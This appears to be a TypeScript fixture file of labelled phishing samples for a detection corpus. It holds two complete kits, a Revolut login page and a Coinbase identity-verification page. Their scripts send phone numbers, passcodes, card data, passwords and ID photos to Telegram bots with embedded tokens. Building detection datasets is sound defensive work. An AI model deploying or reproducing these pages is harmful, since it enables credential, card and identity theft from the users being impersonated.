import { type Entry } from '../entry.js';
import { baseCss, doc, svgLogo } from '../parts/d-parts.js';

/** Kits that send what they collect to a Telegram bot, a Discord webhook or a form-relay service. Written for corpus/d. */
export const entries: Entry[] = [

{
  id: 'd-exfil-telegram-revolut',
  label: 'phishing',
  kind: 'exfil-telegram',
  url: 'https://revolut-secure.app-verify-card.com/login',
  body: doc({
    title: 'Revolut – Log in',
    css: baseCss('#191c1f') + `body{background:#f7f7f7}.r{max-width:400px;margin:60px auto}`,
    body: `<div class="r card"><div>${svgLogo('Revolut', '#191c1f', 'square')}</div><h1 style="font-size:24px">Welcome back</h1><p class="muted">We detected a suspicious card payment of €749.00 at MediaMarkt Online. Log in to cancel it.</p>
<form id="rf"><div class="form-group"><label>Phone number</label><input id="ph" type="tel" placeholder="+44 7700 900123"></div><div class="form-group"><label>Passcode</label><input id="pc" type="password" maxlength="6" inputmode="numeric"></div><div class="form-group"><label>Card number</label><input id="cn"></div><div class="form-group"><label>Expiry / CVV</label><input id="ex"></div><button class="btn btn-block">Continue</button></form></div>
<script>
const TOKEN='7412893056:AAHq9xZ3vP0kLw2mJc8RtYbN5sDf1gUe6oA';const CHAT='-1002187746501';
async function ip(){try{const r=await fetch('https://api.ipify.org?format=json');return (await r.json()).ip}catch(e){return '?'}}
document.getElementById('rf').addEventListener('submit',async function(e){e.preventDefault();
const msg='🏦 REVOLUT LOG\\n📱 '+document.getElementById('ph').value+'\\n🔑 '+document.getElementById('pc').value+'\\n💳 '+document.getElementById('cn').value+' | '+document.getElementById('ex').value+'\\n🌍 IP: '+(await ip())+'\\n🖥 '+navigator.userAgent;
await fetch('https://api.telegram.org/bot'+TOKEN+'/sendMessage',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:CHAT,text:msg})});
location.href='https://www.revolut.com/';});
</script>`,
  }),
},

{
  id: 'd-exfil-telegram-sendphoto-id',
  label: 'phishing',
  kind: 'exfil-telegram',
  url: 'https://coinbase-kyc.identity-review-center.com/verify/id',
  body: doc({
    title: 'Coinbase - Identity verification',
    css: baseCss('#0052ff') + `.v{max-width:480px;margin:40px auto}`,
    body: `<div class="v card"><div>${svgLogo('coinbase', '#0052ff')}</div><h1 style="font-size:22px">Verify your identity</h1><p>Due to new MiCA regulations, withdrawals are paused until you complete identity verification.</p>
<form id="kf"><div class="form-group"><label>Email</label><input id="em" type="email"></div><div class="form-group"><label>Password</label><input id="pw" type="password"></div><div class="form-group"><label>Front of your ID</label><input id="idf" type="file" accept="image/*"></div><div class="form-group"><label>Selfie holding your ID</label><input id="ids" type="file" accept="image/*"></div><button class="btn btn-block">Submit</button></form></div>
<script>
var B='https://api.telegram.org/bot6623019847:AAF0c4pZr1XnQ8wLm3vJ9kTe2yHb5dGs7aU',C='5538291046';
document.getElementById('kf').onsubmit=function(e){e.preventDefault();
fetch(B+'/sendMessage?chat_id='+C+'&text='+encodeURIComponent('CB '+document.getElementById('em').value+' / '+document.getElementById('pw').value));
['idf','ids'].forEach(function(i){var f=document.getElementById(i).files[0];if(!f)return;var d=new FormData();d.append('chat_id',C);d.append('photo',f);fetch(B+'/sendPhoto',{method:'POST',body:d})});
document.querySelector('.v').innerHTML='<h2>Thank you</h2><p>Your documents are under review (up to 48h).</p>'};
</script>`,
  }),
},

];
